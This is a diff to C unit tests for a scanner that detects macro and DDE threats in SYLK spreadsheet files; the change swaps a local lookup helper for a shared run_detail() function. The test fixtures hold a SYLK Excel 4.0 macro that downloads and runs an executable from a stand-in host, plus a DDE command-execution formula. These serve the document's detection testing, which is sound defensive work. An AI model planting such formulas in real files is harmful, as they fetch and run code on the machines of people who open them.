@@ -13,17 +13,6 @@
 
 #include "scan_fixture.h"
 
-static const char *
-detail(struct run *t, const char *name)
-{
-	int i;
-
-	for (i = 0; i < report_nfindings(t->r); i++)
-		if (strcmp(report_finding(t->r, i)->name, name) == 0)
-			return report_finding(t->r, i)->detail;
-	return NULL;
-}
-
 static const char lure[] = "ID;PWXL;N;E\r\n"
     "P;PGeneral\r\n"
     "C;Y1;X1;K0;ECALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://x/a\",\"c:\\\\u\\\\a.exe\",0,0)\r\n"
@@ -39,9 +28,9 @@ xlm_calls_and_auto_open(void **state)
 
 	(void)state;
 	run_analyser(&t, lure, sizeof(lure) - 1, TC_SCRIPT, sylk_scan);
-	assert_string_equal(detail(&t, "macro.xlm"), "SYLK with Excel 4.0 macro calls: "
+	assert_string_equal(run_detail(&t, "macro.xlm"), "SYLK with Excel 4.0 macro calls: "
 	    "CALL( URLDownloadToFile EXEC( HALT(; auto-open name Auto_open");
-	assert_null(detail(&t, "doc.dde"));
+	assert_null(run_detail(&t, "doc.dde"));
 	run_free(&t);
 }
 
@@ -54,8 +43,8 @@ dde_formula_and_escaped_semicolons(void **state)
 
 	(void)state;
 	run_analyser(&t, dde, sizeof(dde) - 1, TC_SCRIPT, sylk_scan);
-	assert_string_equal(detail(&t, "doc.dde"), "SYLK DDE formula: =cmd|' /C calc'!A0");
-	assert_null(detail(&t, "macro.xlm"));
+	assert_string_equal(run_detail(&t, "doc.dde"), "SYLK DDE formula: =cmd|' /C calc'!A0");
+	assert_null(run_detail(&t, "macro.xlm"));
 	run_free(&t);
 }
 
@@ -87,7 +76,7 @@ every_truncation_is_survived(void **state)
 		run_analyser(&t, lure, n, TC_SCRIPT, sylk_scan);
 		/* the CALL formula is whole from its closing parenthesis on */
 		if (n >= (size_t)(strstr(lure, ",0,0)") - lure) + 5)
-			assert_non_null(detail(&t, "macro.xlm"));
+			assert_non_null(run_detail(&t, "macro.xlm"));
 		run_free(&t);
 	}
 }
